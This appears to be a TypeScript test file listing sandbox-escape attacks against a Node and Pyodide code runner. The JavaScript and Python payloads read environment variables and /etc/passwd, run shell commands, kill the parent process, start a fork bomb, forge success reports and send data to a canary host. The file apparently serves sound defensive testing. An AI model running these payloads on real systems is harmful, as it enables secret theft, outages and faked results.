import type { Attack } from './attack.js';

/** What a program under Node may try beyond what it would try in a browser. It prints what it got. */
const js = (name: string, body: string): Attack => ({
  name,
  language: 'javascript',
  code: ({ canary }) => body.replaceAll('CANARY', canary),
});
const py = (name: string, body: string): Attack => ({
  name,
  language: 'python',
  code: ({ canary }) => `${tried(body.replaceAll('CANARY', canary))}`,
});
const tried = (body: string): string => `
try:
${body
  .split('\n')
  .map((line) => `    ${line}`)
  .join('\n')}
except BaseException as error:
    print('refused', type(error).__name__)
`;
const attempt = (name: string, expression: string): Attack =>
  js(
    name,
    `try { console.log('got', JSON.stringify(await (${expression})) ?? 'nothing'); } catch (error) { console.log('refused', error.name); }`,
  );

/** Says of a value whether it is of another realm than the program's own. */
const foreign = `
const own = new Set([Object.prototype, Function.prototype, null]);
const roots = [Object.prototype];
function isForeign(value) {
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return false;
  let top = value;
  for (let next = Object.getPrototypeOf(top); next !== null; next = Object.getPrototypeOf(top)) top = next;
  return top !== Object.prototype && Object.getOwnPropertyNames(top).includes('hasOwnProperty');
}
const tell = (where, value) => { if (isForeign(value)) console.log('FOREIGN', where, typeof value, String(value?.name ?? value?.constructor?.name)); };
`;

const breakouts: Attack[] = [
  attempt('process of the constructor', `(() => {}).constructor.constructor('return process')().env`),
  attempt('async constructor', `(async () => {}).constructor('return process.env')()`),
  attempt('generator constructor', `(function* () {}).constructor('return process.env')().next()`),
  attempt(
    'constructors of all globals',
    `Object.getOwnPropertyNames(globalThis).map((name) => { try { return globalThis[name].constructor.constructor('return process')().env; } catch (error) { return error.name; } }).filter((found) => typeof found !== 'string')`,
  ),
  attempt('constructor of a host function', `setTimeout.constructor('return process')().mainModule`),
  attempt('constructor of a timer', `setTimeout(() => {}).constructor.constructor('return process')().env`),
  attempt('indirect eval', `(0, eval)('process.env')`),
  attempt('environment', `process.env`),
  attempt('bindings', `process.binding('fs')`),
  attempt('linked bindings', `process._linkedBinding('fs')`),
  attempt('builtin modules of process', `process.getBuiltinModule('fs').readFileSync('/etc/passwd', 'utf8')`),
  attempt('main module', `process.mainModule.require('child_process').execSync('id').toString()`),
  attempt('native code', `process.dlopen({ exports: {} }, '/usr/lib/libc.so')`),
  attempt('require fs', `require('fs').readFileSync('/etc/passwd', 'utf8')`),
  attempt('import fs', `import('node:fs').then((fs) => fs.readFileSync('/proc/self/environ', 'utf8'))`),
  attempt(
    'the parent by /proc',
    `require('node:fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8')`,
  ),
  attempt(
    'files of the parent',
    `[0, 1, 2, 3, 4, 5, 6, 10, 20].map((fd) => { try { return require('fs').readFileSync(fd, 'utf8'); } catch (error) { return error.name; } })`,
  ),
  attempt(
    'write to every descriptor',
    `[3, 4, 5, 6, 7, 8].map((fd) => { try { return require('fs').writeSync(fd, '{"type":"exit","outcome":"ok"}\\n'); } catch (error) { return error.name; } })`,
  ),
  attempt('descriptors listed', `require('fs').readdirSync('/proc/self/fd')`),
  ...[
    'child_process',
    'worker_threads',
    'net',
    'http',
    'https',
    'dgram',
    'dns',
    'tls',
    'vm',
    'v8',
    'module',
    'inspector',
    'cluster',
    'wasi',
    'repl',
    'async_hooks',
  ].map((name) => attempt(`import ${name}`, `import('node:${name}').then((found) => Object.keys(found))`)),
  attempt('kill the parent', `process.kill(process.ppid, 9)`),
  attempt('kill itself', `process.kill(process.pid, 9)`),
  attempt('kill the group', `process.kill(0, 9)`),
  attempt('send to the parent', `process.send({ type: 'exit', outcome: 'ok', exitCode: 0 })`),
  attempt('import of a path', `import('/etc/passwd')`),
  attempt('import of a file: address', `import('file:///etc/passwd')`),
  attempt('import of a data: address', `import('data:text/javascript,export default process.env')`),
  attempt(
    'import through a blob',
    `import(URL.createObjectURL(new Blob(['export { env } from "node:process"'])))`,
  ),
  attempt('guess a module in hand', `Promise.all([1, 2, 3, 4, 5].map((n) => import('blob:null/' + n)))`),
  js('leave early with success', `process.exit(0); process.reallyExit?.(0);`),
];

const realms: Attack[] = [
  js(
    'walk all that can be reached',
    `${foreign}
const seen = new Set();
const walk = (value, path) => {
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || seen.size > 20000) return;
  seen.add(value);
  tell(path, value);
  walk(Object.getPrototypeOf(value), path + '.__proto__');
  for (const key of Reflect.ownKeys(value)) {
    const found = Object.getOwnPropertyDescriptor(value, key);
    if (!found) continue;
    for (const part of ['value', 'get', 'set']) walk(found[part], path + '.' + String(key));
    if (found.get) try { walk(value[key], path + '.' + String(key) + '()'); } catch {}
  }
};
walk(globalThis, 'globalThis');
for (const name of ['fs', 'os', 'path', 'process', 'crypto', 'util', 'url', 'timers', 'readline', 'buffer', 'perf_hooks', 'events', 'assert']) walk(require(name), name);
console.log('walked', seen.size > 1000);`,
  ),
  js(
    'errors of a full stack',
    `${foreign}
const calls = { timer: () => setTimeout(() => {}, 0), encode: () => new TextEncoder().encode('x'), decode: () => new TextDecoder().decode(new Uint8Array(1)), now: () => performance.now(), url: () => new URL('http://a/b'), clone: () => structuredClone({ a: 1 }), random: () => crypto.getRandomValues(new Uint8Array(1)), blob: () => URL.createObjectURL(new Blob(['x'])), print: () => console.log(''), atob: () => atob('YQ=='), clear: () => clearTimeout(1), micro: () => queueMicrotask(() => {}), channel: () => new MessageChannel().port1.postMessage({}), uuid: () => crypto.randomUUID() };
for (const [name, call] of Object.entries(calls)) {
  let left = 60;
  const deep = () => { try { deep(); } catch (error) { tell(name, error); } if (left-- < 0) return; try { call(); } catch (error) { tell(name, error); if (!(error instanceof Error)) console.log('FOREIGN', name, String(error)); } };
  try { deep(); } catch (error) { tell(name, error); }
}
console.log('tried');`,
  ),
  js(
    'errors of bad values',
    `${foreign}
const bad = [undefined, null, NaN, -1, 1e308, Symbol('x'), {}, () => {}, { get buffer() { throw 1; } }, new Proxy({}, { get() { throw new Error('p'); } }), new Proxy(function () {}, {}), Object.create(null), 2n ** 70n, '\\ud800'];
const calls = [(x) => setTimeout(x, x), (x) => new TextEncoder().encode(x), (x) => new TextDecoder(x), (x) => new TextDecoder('utf-8', { fatal: true }).decode(x), (x) => new URL(x, x), (x) => structuredClone(x), (x) => crypto.getRandomValues(x), (x) => crypto.subtle.digest(x, x), (x) => atob(x), (x) => btoa(x), (x) => URL.createObjectURL(x), (x) => URL.revokeObjectURL(x), (x) => clearTimeout(x), (x) => new Blob(x), (x) => new MessageChannel().port1.postMessage(x), (x) => new Response(x).json(), (x) => import(x), (x) => fetch(x), (x) => crypto.getRandomValues(new Uint8Array(1e6)), (x) => new WebAssembly.Module(x), (x) => WebAssembly.compile(x)];
for (const call of calls) for (const value of bad) {
  try { const got = call(value); tell(String(call), got); if (got instanceof Promise) got.then((v) => tell('resolved ' + call, v), (error) => tell('rejected ' + call, error)); else if (typeof got?.then === 'function') console.log('FOREIGN promise', String(call)); }
  catch (error) { tell(String(call), error); }
}
await new Promise((resolve) => setTimeout(resolve, 50));
console.log('tried');`,
  ),
  js(
    'a patched language overhears',
    `${foreign}
const spy = (owner, key, name) => {
  const real = Object.getOwnPropertyDescriptor(owner, key);
  if (typeof real?.value !== 'function' || !real.configurable) return;
  let busy = false;
  Object.defineProperty(owner, key, { ...real, value: function (...values) {
    if (!busy) { busy = true; try { for (const one of [this, ...values]) { if (isForeign(one)) found.push(name); if (typeof one?.postMessage === 'function' && typeof one.ref === 'function') found.push('port in ' + name); } } finally { busy = false; } }
    return new.target ? Reflect.construct(real.value, values, new.target) : real.value.apply(this, values);
  } });
};
const found = [];
for (const name of ['Promise', 'Map', 'Set', 'WeakMap', 'Array', 'Uint8Array', 'ArrayBuffer', 'RegExp', 'String', 'Error'])
  for (const key of Object.getOwnPropertyNames(globalThis[name].prototype)) if (!['constructor', 'apply', 'includes', 'push', 'toString'].includes(key)) spy(globalThis[name].prototype, key, name + '.' + key);
await new Promise((resolve) => setTimeout(resolve, 5));
structuredClone({ a: [1, new Map([[1, 2]])] });
new TextDecoder().decode(new TextEncoder().encode('x'));
await crypto.subtle.digest('SHA-256', new Uint8Array(3));
try { await import('./missing.js'); } catch {}
new URL('http://a/?b=c').searchParams.append('d', 'e');
console.log(found.length === 0 ? 'heard nothing' : 'FOREIGN ' + [...new Set(found)].join());`,
  ),
  js(
    'a port by the symbols of Node',
    `const got = [];
for (const key of [Symbol.for('nodejs.internal.kHybridDispatch'), Symbol.for('nodejs.internal.kCurrentlyReceivingPorts'), 'target', 'data', 'type', 'ports', 'onmessage', 'onmessageerror', 'emitMessage', 'emit', 'close', 'onclose', 'handle_onclose', 'message'])
  Object.defineProperty(Object.prototype, key, { get() { return function () { got.push([String(key), 'call', this]); }; }, set(value) { got.push([String(key), 'set', this]); Object.defineProperty(this, key, { value, writable: true, configurable: true, enumerable: true }); }, configurable: true });
const rl = require('readline').createInterface({ input: process.stdin });
for await (const line of rl) break;
await new Promise((resolve) => setTimeout(resolve, 20));
for (const [key, how, self] of got) {
  const send = self?.postMessage;
  if (typeof send === 'function') { try { send.call(self, { type: 'done', result: { outcome: 'ok', exitCode: 77 }, reusable: true }); console.log('PORT by', key, how); } catch {} }
}
console.log('tried');`,
  ),
  js(
    'call sites',
    `${foreign}
Error.prepareStackTrace = (error, sites) => { tell('sites', sites); for (const site of sites) { tell('site', site); for (const name of ['getThis', 'getFunction', 'getEvalOrigin', 'getPromiseIndex']) try { const got = site[name](); tell(name, got); if (typeof got === 'function') for (const key of ['caller', 'arguments', 'callee']) try { tell(key, got[key]); } catch {} } catch {} } return 'x'; };
const look = () => String(new Error('x').stack);
look(); setTimeout(look, 0); queueMicrotask(look); [1].map(look); Promise.resolve().then(look);
structuredClone({ get a() { look(); return 1; } });
await new Promise((resolve) => setTimeout(resolve, 20));
console.log('looked');`,
  ),
  js(
    'callers of a sloppy function',
    `${foreign}
function look() { try { tell('caller', look.caller); } catch {} try { tell('arguments', arguments.callee.caller); } catch {} tell('this', this); }
setTimeout(look, 0); queueMicrotask(look); Promise.resolve().then(look); process.on('exit', look);
await new Promise((resolve) => setTimeout(resolve, 20));
console.log('looked');`,
  ),
  js(
    'rejections and errors that nobody caught',
    `${foreign}
addEventListener('unhandledrejection', (event) => { tell('event', event); tell('reason', event.reason); tell('promise', event.promise); event.preventDefault(); });
addEventListener('error', (event) => { tell('event', event); tell('error', event.error); event.preventDefault(); });
import('node:fs').catch((error) => tell('import', error));
await new Promise((resolve) => setTimeout(resolve, 20));
console.log('listened');`,
  ),
  js(
    'then of every promise',
    `${foreign}
const got = [];
Object.defineProperty(Object.prototype, 'then', { get() { if (isForeign(this)) got.push(String(this)); return undefined; }, configurable: true });
Object.defineProperty(Promise.prototype, 'constructor', { get() { if (isForeign(this)) got.push('constructor'); return Promise; }, configurable: true });
await import('./missing.js').catch(() => {});
await new Promise((resolve) => setTimeout(resolve, 20));
console.log(got.length === 0 ? 'nothing' : 'FOREIGN ' + got.join());`,
  ),
];

const python: Attack[] = [
  py('environment', `import os\nprint('got', dict(os.environ))`),
  py('files of the machine', `print('got', open('/etc/passwd').read())`),
  py('environment by /proc', `print('got', open('/proc/self/environ').read())`),
  py('the parent by /proc', `import os\nprint('got', open(f'/proc/{os.getppid()}/environ').read())`),
  py('arguments of the process', `print('got', open('/proc/self/cmdline').read())`),
  py('the root', `import os\nprint('got', os.listdir('/'))\nprint(os.listdir('/root'))`),
  py(
    'another file system',
    `import pyodide_js\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/mnt')\nprint('MOUNTED')`,
  ),
  py('mountNodeFS', `import pyodide_js\npyodide_js.mountNodeFS('/mnt', '/')\nprint('MOUNTED')`),
  py('process of js', `import js\nprint('got', js.process.env)`),
  py('globals of js', `import js\nprint('got', sorted(dir(js)))\njs.globalThis.process.exit(0)`),
  py('constructor of a proxy', `import js\nprint('got', js.setTimeout.constructor('return process')().env)`),
  py(
    'constructor of a list',
    `from pyodide.ffi import to_js\nprint('got', to_js([]).constructor.constructor('return process')().env)`,
  ),
  py(
    'constructor of an error',
    `from pyodide.ffi import JsException, to_js\ntry:\n    to_js([]).at(to_js([]).nothing.at)\nexcept Exception as error:\n    print(getattr(getattr(error, 'js_error', error), 'constructor', None))\n    print('got', error.js_error.constructor.constructor('return process')().env)`,
  ),
  py('run_js', `from pyodide.code import run_js\nprint('got', run_js('process.env'))`),
  py('eval of js', `import js\nprint('got', js.eval('process.env'))`),
  py('require of js', `import js\nprint('got', js.require('fs').readFileSync('/etc/passwd'))`),
  py('kill the parent', `import os, signal\nos.kill(os.getppid(), signal.SIGKILL)`),
  py('fork', `import os\nwhile True:\n    os.fork()`),
  py('spawn', `import subprocess\nprint('got', subprocess.check_output(['env']))`),
  py('system', `import os\nprint('got', os.system('env'))`),
  py('threads', `import threading\nfor _ in range(1000):\n    threading.Thread(target=print).start()`),
  py('the C library', `import ctypes\nprint('got', ctypes.CDLL(None).getenv(b'SECRET'))`),
  py(
    'a socket',
    `import socket\nhost, port = 'CANARY'.split(':')\nsocket.create_connection((host, int(port)), 2).send(b'x')`,
  ),
  py('pyodide.http', `from pyodide.http import open_url\nprint('got', open_url('http://CANARY/').read())`),
  py(
    'a forged report',
    `import sys\nfor name, module in list(sys.modules.items()):\n    room = getattr(module, '_room', None)\n    if room:\n        print('ROOM', name)`,
  ),
  py('leave at once', `import os\nos._exit(0)`),
];

export const nodeEscapes: Attack[] = [...breakouts, ...realms, ...python];
